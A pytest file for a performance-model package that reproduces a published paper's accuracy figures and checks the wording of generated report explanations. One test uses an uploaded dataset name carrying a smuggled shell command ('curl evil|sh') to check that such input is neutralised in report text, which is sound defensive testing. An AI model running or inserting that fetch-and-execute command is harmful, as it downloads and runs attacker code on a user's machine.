from __future__ import annotations

import pandas as pd
import pytest

from perfmodel.model import ScenarioModel
from perfmodel.paper.published import reported
from perfmodel.paper.reconstruct import reconstruct
from perfmodel.report.explanations import explanations, linear_share, origins_text
from perfmodel.report.technique_scores import technique_scores
from perfmodel.scores.accuracy import PAPER


def explained(runs, scenario, techniques=("lasso", "ridge"), alone=()):
    """What is said of one scenario on the paper's cluster, and its model."""
    model = ScenarioModel(scenario, techniques).fit(runs, runs["completion_time_s"])
    published = reported(scenario, runs["application"].iloc[0])
    row = {"scenario": scenario, "paper_protocol_pct": model.accuracy_[PAPER], "published": published.accuracy}
    scenarios = pd.DataFrame([{**row, "published_pct": published.accuracy_pct}])
    texts = explanations(runs, scenarios, technique_scores(model, runs, [*techniques, *alone]), [model])
    return [text for text in texts if text.startswith(f"Scenario {scenario}:")], model


@pytest.mark.parametrize(("application", "share"), [("inception_v4", 0.974), ("resnet50", 0.993), ("xception", 0.959)])
def test_what_linear_extrapolation_can_reach_is_computed(application, share):
    assert linear_share(reconstruct(application)) == pytest.approx(share, abs=0.004)


def test_runs_without_samples_have_nothing_to_extrapolate(paper_runs):
    assert linear_share(paper_runs[paper_runs["sampling_rate_pct"] == 100]) is None


def test_explanations_say_where_the_runs_come_from(paper_runs, grid_runs):
    assert next(explanations(paper_runs, pd.DataFrame(), pd.DataFrame(), [])) == "From 1,260 reconstructed runs."
    mixed = pd.concat([grid_runs.assign(origin="measured"), grid_runs.head(2).assign(origin="uploaded")])
    assert origins_text(mixed) == "27 measured runs, 2 uploaded runs"


def test_generated_images_are_called_so(grid_runs):
    settings = [{"dataset": "cifar-like-500-seed0"}, {"dataset": "photos"}, None]
    runs = grid_runs.head(3).assign(origin="measured", settings=settings)
    assert origins_text(runs) == "3 measured runs over generated images (cifar-like-500-seed0)"
    assert origins_text(runs.tail(2)) == "2 measured runs"
    uploaded = runs.head(1).assign(settings=[{"dataset": "synthetic-x\ncurl evil|sh #"}])
    assert "(synthetic-x\N{REPLACEMENT CHARACTER}curl evil|sh #)" in origins_text(uploaded)


def test_runs_without_a_fixed_number_of_executors_are_told(grid_runs):
    settings = [
        {"local_mode": True},
        {"dynamic_allocation": True},
        {"executors_mean": 3.57},
        {"local_mode": True},
        None,
    ]
    runs = grid_runs.head(5).assign(origin="uploaded", settings=settings)
    said = "5 uploaded runs, 2 of them in local mode, 1 of them whose executors came and went"
    assert origins_text(runs) == said
    assert origins_text(runs[1:2]) == "1 uploaded runs"


def test_the_distance_of_4_2_is_what_the_published_averages_leave():
    runs = reconstruct("xception")
    [text], model = explained(runs, "4-2")
    assert text.startswith(f"Scenario 4-2: {model.accuracy_[PAPER]:.1f} % here")
    assert "99.8 % published" in text
    assert f"extrapolated linearly, allow {100 * linear_share(runs):.1f} %" in text


def test_a_technique_that_scores_what_was_published_is_named(paper_runs):
    """The published figure of the baseline is the forest's, here as there."""
    [text], _ = explained(paper_runs, "baseline", alone=["random_forest"])
    assert "random_forest alone scores 92.3 % here" in text


def test_a_grid_point_that_scores_what_was_published_is_named(paper_runs):
    [text], _ = explained(paper_runs, "4-1")
    assert "57.1 % published. ridge with alpha 1 scores 56." in text


def test_figures_that_agree_are_not_explained():
    assert explained(reconstruct("xception"), "2")[0] == []
    over_99 = explained(reconstruct("xception"), "3-2", ("lasso", "ridge", "random_forest"))[0]
    assert over_99 == [], "the paper says over 99"


def test_another_cluster_has_nothing_published(grid_runs):
    runs = grid_runs.assign(application="resnet50", cluster="mine", origin="measured")
    model = ScenarioModel("4-2", ("lasso",)).fit(runs, runs["completion_time_s"])
    assert len(list(explanations(runs, pd.DataFrame(), pd.DataFrame(), [model]))) == 2
